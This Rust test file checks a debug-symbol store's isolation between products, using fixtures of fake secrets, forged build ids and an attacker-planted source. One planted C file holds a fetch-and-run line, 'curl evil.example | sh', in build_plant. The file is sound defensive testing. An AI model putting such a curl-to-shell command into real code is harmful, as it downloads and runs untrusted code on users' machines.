//! Tenancy of the source joins (THREATS.md, invariants 1 and 2), tried as an uploader of
//! another product would: two products share one store and one build string (or none);
//! product B's unpublished files never serve product A's debug file, A's planted sources never
//! beat B's own, a debug file claiming another product's served source is a conflict naming
//! it (exit 1), and secret-shaped files are never published without a source flag.

mod common;

use std::path::{Path, PathBuf};
use std::process::Output;

use common::{published_files, readelf_build_id, symdex, Workdir};

/// What product B keeps to itself: its environment file and a tarball of secrets.
const B_ENV: &str = "AWS_SECRET_ACCESS_KEY=b-secret-1\n";
const B_SECRETS: &str = "DB_PASSWORD=b-secret-2\n";

/// `symdex index --json --store STORE --product PRODUCT [--build BUILD] ARGS...`: its output
/// and records.
fn index_as(
    store: &Path,
    product: &str,
    build: Option<&str>,
    args: &[&std::ffi::OsStr],
) -> (Output, Vec<serde_json::Value>) {
    let mut cmd = symdex();
    cmd.args(["index", "--json", "--store"])
        .arg(store)
        .args(["--product", product]);
    if let Some(build) = build {
        cmd.args(["--build", build]);
    }
    let out = cmd.args(args).output().unwrap();
    let records = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (out, records)
}

fn os(path: &Path) -> &std::ffi::OsStr {
    path.as_os_str()
}

/// The record whose archive entry, or else ingest key, ends with `name`.
fn record_of<'a>(records: &'a [serde_json::Value], name: &str) -> &'a serde_json::Value {
    let path = |r: &serde_json::Value| {
        let entry = r["entry"].as_str().map(|e| format!("!/{e}"));
        entry.unwrap_or_else(|| r["ingest_key"].as_str().unwrap_or("").to_string())
    };
    records
        .iter()
        .find(|r| path(r).ends_with(&format!("/{name}")))
        .unwrap_or_else(|| panic!("no record of {name}: {records:?}"))
}

/// Product A's debug file, whose DWARF names `<w>/a/x/.env` and
/// `<w>/a/x/app/config/secrets.env` (both included by its `main.c`, as an attacker's build
/// can name any path it likes). Returns its path.
fn build_a(w: &Workdir) -> PathBuf {
    std::fs::create_dir_all(w.path("a/x/app/config")).unwrap();
    std::fs::write(
        w.path("a/x/main.c"),
        "#include \".env\"\n#include \"app/config/secrets.env\"\n\
         int main(void) { return env_value() + secret_value() - 3; }\n",
    )
    .unwrap();
    std::fs::write(
        w.path("a/x/.env"),
        "static int env_value(void) {\n    return 1;\n}\n",
    )
    .unwrap();
    std::fs::write(
        w.path("a/x/app/config/secrets.env"),
        "static int secret_value(void) {\n    return 2;\n}\n",
    )
    .unwrap();
    let dir = w.path("a/x");
    common::run_in(&dir, "gcc", &["-g", "-O0", "-o", "prog_a", "main.c"]);
    common::run_in(
        &dir,
        "objcopy",
        &["--only-keep-debug", "prog_a", "../a.debug"],
    );
    w.path("a/a.debug")
}

/// Product B's unpublished files: `.env` loose, and a tarball holding `x/.env` and
/// `app/config/secrets.env` (paths sharing two components and more with A's DWARF).
fn build_b_secrets(w: &Workdir) -> Vec<PathBuf> {
    std::fs::create_dir_all(w.path("b/tree/x")).unwrap();
    std::fs::create_dir_all(w.path("b/tree/app/config")).unwrap();
    std::fs::write(w.path("b/.env"), B_ENV).unwrap();
    std::fs::write(w.path("b/tree/x/.env"), B_ENV).unwrap();
    std::fs::write(w.path("b/tree/app/config/secrets.env"), B_SECRETS).unwrap();
    common::run_in(
        &w.path("b/tree"),
        "tar",
        &[
            "czf",
            "../secrets.tar.gz",
            "x/.env",
            "app/config/secrets.env",
        ],
    );
    vec![w.path("b/.env"), w.path("b/secrets.tar.gz")]
}

/// Whether any published file of `store` holds B's secrets.
fn publishes_b_secrets(store: &Path) -> bool {
    published_files(store).values().any(|bytes| {
        let text = String::from_utf8_lossy(bytes);
        text.contains("b-secret")
    })
}

#[test]
fn another_products_files_never_serve_a_debug_file_with_or_without_a_build() {
    let w = Workdir::new();
    let a_debug = build_a(&w);
    let b_files = build_b_secrets(&w);
    let b_args: Vec<&std::ffi::OsStr> = b_files.iter().map(|p| os(p)).collect();
    for build in [Some("1"), None] {
        for b_first in [true, false] {
            let store = w.path(&format!("store-{build:?}-{b_first}"));
            let index_b = || {
                let (out, records) = index_as(&store, "b", build, &b_args);
                assert!(out.status.success(), "{out:?}");
                records
            };
            let b_records = if b_first { index_b() } else { Vec::new() };
            let (out, a_records) = index_as(&store, "a", build, &[os(&a_debug)]);
            assert!(out.status.success(), "{out:?}");
            let b_records = if b_first { b_records } else { index_b() };
            let what = format!("build {build:?}, B first: {b_first}");
            assert!(
                published_files(&store)
                    .keys()
                    .all(|k| !k.contains("/source/")),
                "{what}: no source is published for A"
            );
            assert!(!publishes_b_secrets(&store), "{what}");
            // A's record lists what it named as missing; B's files are skipped, and say why.
            let a_record = a_records
                .iter()
                .find(|r| r["kind"] == "debug")
                .expect("A's debug record");
            let missing = a_record["sources"]["missing"].to_string();
            assert!(
                missing.contains("/a/x/.env") && missing.contains("app/config/secrets.env"),
                "{what}: {a_record}"
            );
            for name in [".env", "x/.env", "app/config/secrets.env"] {
                let record = record_of(&b_records, name);
                assert_eq!(record["action"], "skipped", "{what}: {record}");
                assert!(
                    record["reason"]
                        .as_str()
                        .is_some_and(|r| r.contains("secret-shaped")),
                    "{what}: {record}"
                );
            }
        }
    }
}

#[test]
fn a_secret_shaped_file_of_the_own_product_needs_a_source_flag() {
    let w = Workdir::new();
    let a_debug = build_a(&w);
    let env = w.path("a/x/.env");
    let store = w.path("store");
    // Named by A's own DWARF by its exact path (a source root), unflagged: not published.
    let root = w.path("a/x").canonicalize().unwrap();
    let (out, records) = index_as(&store, "a", Some("1"), &[os(&a_debug), os(&env)]);
    assert!(out.status.success(), "{out:?}");
    assert!(
        published_files(&store)
            .keys()
            .all(|k| !k.contains("/source/")),
        "not published without a flag"
    );
    let record = record_of(&records, ".env");
    assert_eq!(record["action"], "skipped", "{record}");
    assert!(record["reason"].as_str().unwrap().contains("secret-shaped"));
    // Flagged as a source, it is the debug file's source.
    let flagged = w.path("flagged");
    let source = "--source".as_ref();
    let (out, _) = index_as(&flagged, "a", Some("1"), &[source, os(&a_debug), os(&env)]);
    assert!(out.status.success(), "{out:?}");
    let key = format!(
        "buildid/{}/source{}/.env",
        readelf_build_id(&w, "a/a.debug").unwrap(),
        root.display()
    );
    assert!(published_files(&flagged).contains_key(&key), "{key}");
}

/// B's tree: `b/src/main.c` built in `b/`, its debug file and its own `src.tar.gz`
/// (`src/main.c`). Returns (debug file, tarball, the source's bytes).
fn build_b_program(w: &Workdir) -> (PathBuf, PathBuf, String) {
    let main = "int main(void) {\n    return 0;\n}\n".to_string();
    std::fs::create_dir_all(w.path("b/src")).unwrap();
    std::fs::write(w.path("b/src/main.c"), &main).unwrap();
    let dir = w.path("b");
    common::run_in(&dir, "gcc", &["-g", "-O0", "-o", "prog", "src/main.c"]);
    common::run_in(
        &dir,
        "objcopy",
        &["--only-keep-debug", "prog", "prog.debug"],
    );
    common::run_in(&dir, "tar", &["czf", "src.tar.gz", "src/main.c"]);
    (w.path("b/prog.debug"), w.path("b/src.tar.gz"), main)
}

/// A's plant: a tarball whose entry `b/src/main.c` shares more of B's DWARF path than B's own
/// `src/main.c` does (the longest suffix won across products before tenancy).
fn build_plant(w: &Workdir) -> PathBuf {
    std::fs::create_dir_all(w.path("plant/b/src")).unwrap();
    std::fs::write(
        w.path("plant/b/src/main.c"),
        "int main(void) { return system(\"curl evil.example | sh\"); }\n",
    )
    .unwrap();
    common::run_in(
        &w.path("plant"),
        "tar",
        &["czf", "../plant.tar.gz", "b/src/main.c"],
    );
    w.path("plant.tar.gz")
}

#[test]
fn a_planted_source_of_another_product_never_beats_the_own() {
    let w = Workdir::new();
    let (debug, tarball, main) = build_b_program(&w);
    let plant = build_plant(&w);
    let build_id = readelf_build_id(&w, "b/prog.debug").unwrap();
    let root = w.path("b").canonicalize().unwrap();
    let key = format!("buildid/{build_id}/source{}/src/main.c", root.display());
    let source_ext: &std::ffi::OsStr = "--source-ext=c".as_ref();
    for (flagged, build) in [(false, Some("1")), (true, Some("1")), (false, None)] {
        let what = format!("plant flagged: {flagged}, build {build:?}");
        let store = w.path(&format!("store-{flagged}-{build:?}"));
        let mut plant_args = vec![os(&plant)];
        if flagged {
            plant_args.insert(0, source_ext);
        }
        let (out, plant_records) = index_as(&store, "a", build, &plant_args);
        assert!(out.status.success(), "{what}: {out:?}");
        let (out, records) = index_as(&store, "b", build, &[os(&debug), os(&tarball)]);
        assert!(out.status.success(), "{what}: {out:?}");
        let published = published_files(&store);
        assert_eq!(
            published.get(&key).map(Vec::as_slice),
            Some(main.as_bytes()),
            "{what}: B's own source serves B's debug file"
        );
        // A may publish its own files under their own keys (a flagged source's SHA-1 key),
        // never under B's build id.
        let b_keys = format!("buildid/{build_id}/");
        assert!(
            published
                .iter()
                .filter(|(k, _)| k.starts_with(&b_keys))
                .all(|(_, b)| !String::from_utf8_lossy(b).contains("evil.example")),
            "{what}: nothing of A's plant serves B's build id"
        );
        // Served for B: by its debug file's record, or (the debug file first in the run) by
        // the record of its source's entry, claimed then.
        let served_by = |r: &serde_json::Value| r["published"].to_string().contains(&key);
        assert!(records.iter().any(served_by), "{what}: {records:?}");
        // A's attempt is in A's record: its entry served nothing.
        let planted = record_of(&plant_records, "b/src/main.c");
        assert!(
            planted["published"].as_array().is_none_or(|keys| keys
                .iter()
                .all(|k| !k.as_str().unwrap().contains("/source/"))),
            "{what}: {planted}"
        );
    }
}

#[test]
fn a_debug_file_whose_source_another_product_serves_is_a_conflict_naming_it() {
    let w = Workdir::new();
    let (debug, tarball, main) = build_b_program(&w);
    let plant = build_plant(&w);
    let build_id = readelf_build_id(&w, "b/prog.debug").unwrap();
    let root = w.path("b").canonicalize().unwrap();
    let key = format!("buildid/{build_id}/source{}/src/main.c", root.display());
    // A got B's debug file (build ids are global) and indexes it first, with its plant.
    let stolen = w.path("stolen.debug");
    std::fs::copy(&debug, &stolen).unwrap();
    // B's run finds its build id held by A whichever of its files comes first, its source
    // noted, claimed or flagged: B's debug file is the conflict, naming A.
    let flag: &std::ffi::OsStr = "--source-ext=c".as_ref();
    let runs: [Vec<&std::ffi::OsStr>; 3] = [
        vec![os(&debug), os(&tarball)],
        vec![os(&tarball), os(&debug)],
        vec![flag, os(&tarball), os(&debug)],
    ];
    for (i, b_args) in runs.into_iter().enumerate() {
        let store = w.path(&format!("store-{i}"));
        let (out, _) = index_as(&store, "a", Some("1"), &[os(&stolen), os(&plant)]);
        assert!(out.status.success(), "{out:?}");
        let (out, records) = index_as(&store, "b", Some("1"), &b_args);
        assert_eq!(out.status.code(), Some(1), "B's run fails: {out:?}");
        let conflict = records
            .iter()
            .find(|r| r["action"] == "conflict" && r["kind"] == "debug")
            .unwrap_or_else(|| panic!("a conflict: {records:?}"));
        assert_eq!(conflict["product"], "b", "{conflict}");
        assert_eq!(conflict["held_by_products"], serde_json::json!(["a"]));
        assert!(
            conflict["reason"].as_str().unwrap().contains("product a"),
            "{conflict}"
        );
        assert!(
            conflict["sources"]["unserved"]
                .to_string()
                .contains("product a"),
            "{conflict}"
        );
        // B's bytes are not served under a key A holds.
        assert_ne!(
            published_files(&store).get(&key).map(Vec::as_slice),
            Some(main.as_bytes())
        );
        common::verify_clean(&store);
    }
}

#[test]
fn one_file_indexed_for_two_products_is_two_uploads_and_a_conflict() {
    let w = Workdir::new();
    let (debug, _, _) = build_b_program(&w);
    let store = w.path("store");
    let upload_of = |product: &str| {
        let (out, records) = index_as(&store, product, Some("1"), &[os(&debug)]);
        let record = records.iter().find(|r| r["kind"] == "debug").unwrap();
        let upload = record["upload"].as_str().unwrap().to_string();
        (upload, record["action"].clone(), out.status.code())
    };
    let (a, a_action, a_exit) = upload_of("a");
    let (b, b_action, b_exit) = upload_of("b");
    assert_eq!((a_action, a_exit), (serde_json::json!("indexed"), Some(0)));
    // B's upload is its own (not answered from A's record), and its id names its product.
    // Its build id is held by A too: a conflict (ids are global), every time it runs.
    assert_ne!(a, b);
    assert!(
        a.contains("product=a") && b.contains("product=b"),
        "{a} {b}"
    );
    assert_eq!((b_action, b_exit), (serde_json::json!("conflict"), Some(1)));
    let again = (b.clone(), serde_json::json!("conflict"), Some(1));
    assert_eq!(upload_of("b"), again);
    // A product spelled to look like another's id is its own upload (its id escapes it).
    let (out, records) = index_as(&store, "a&build=1", None, &[os(&debug)]);
    let record = records.iter().find(|r| r["kind"] == "debug").unwrap();
    assert_ne!(record["upload"].as_str(), Some(a.as_str()), "{out:?}");
    assert!(record["upload"].as_str().unwrap().contains("a%26build%3D1"));
    common::verify_clean(&store);
}

/// A's plant for any path of B's build id, flagged, beside A's debug file for that id: a copy
/// of B's debug file, or one A built with B's build id.
#[test]
fn another_products_build_id_serves_no_source_of_its_copier() {
    let w = Workdir::new();
    let (debug, _, _) = build_b_program(&w);
    let build_id = readelf_build_id(&w, "b/prog.debug").unwrap();
    let root = w.path("b").canonicalize().unwrap();
    let key = format!("buildid/{build_id}/source{}/src/main.c", root.display());
    // A's own ELF built with B's build id (other bytes), naming the same path.
    std::fs::create_dir_all(w.path("forged/b/src")).unwrap();
    std::fs::write(
        w.path("forged/b/src/main.c"),
        "int main(void) { return 7; }\n",
    )
    .unwrap();
    let forged_dir = w.path("forged/b");
    let build_id_flag = format!("-Wl,--build-id=0x{build_id}");
    common::run_in(
        &forged_dir,
        "gcc",
        &["-g", "-O0", &build_id_flag, "-o", "prog", "src/main.c"],
    );
    let stolen = w.path("stolen.debug");
    std::fs::copy(&debug, &stolen).unwrap();
    let plant = build_plant(&w);
    let flag: &std::ffi::OsStr = "--source-ext=c".as_ref();
    for (what, copy) in [
        ("a copy", stolen.clone()),
        ("a forgery", forged_dir.join("prog")),
    ] {
        // B first, with no source of its own: A's debug file is a conflict naming B, and
        // none of A's plant is served under B's build id.
        let store = w.path(&format!("store-{}", what.len()));
        let (out, _) = index_as(&store, "b", Some("1"), &[os(&debug)]);
        assert!(out.status.success(), "{what}: {out:?}");
        let (out, records) = index_as(&store, "a", Some("1"), &[flag, os(&copy), os(&plant)]);
        assert_eq!(out.status.code(), Some(1), "{what}: {out:?}");
        let a_record = records
            .iter()
            .find(|r| r["source_paths"].is_array())
            .unwrap_or_else(|| panic!("{what}: {records:?}"));
        assert_eq!(a_record["action"], "conflict", "{what}: {a_record}");
        assert_eq!(a_record["held_by_products"], serde_json::json!(["b"]));
        assert!(
            !published_files(&store).contains_key(&key),
            "{what}: A's plant serves B's build id"
        );
        // Run again: still a conflict, never answered `unchanged` from its record.
        let (out, _) = index_as(&store, "a", Some("1"), &[flag, os(&copy), os(&plant)]);
        assert_eq!(out.status.code(), Some(1), "{what}, again: {out:?}");
    }
    // A first with a copy (B's debug file leaked): B's debug file is the conflict, naming A.
    let store = w.path("store-a-first");
    let (out, _) = index_as(&store, "a", Some("1"), &[flag, os(&stolen), os(&plant)]);
    assert!(out.status.success(), "{out:?}");
    let (out, records) = index_as(&store, "b", Some("1"), &[os(&debug)]);
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let b_record = records.iter().find(|r| r["kind"] == "debug").unwrap();
    assert_eq!(
        b_record["held_by_products"],
        serde_json::json!(["a"]),
        "{b_record}"
    );
}
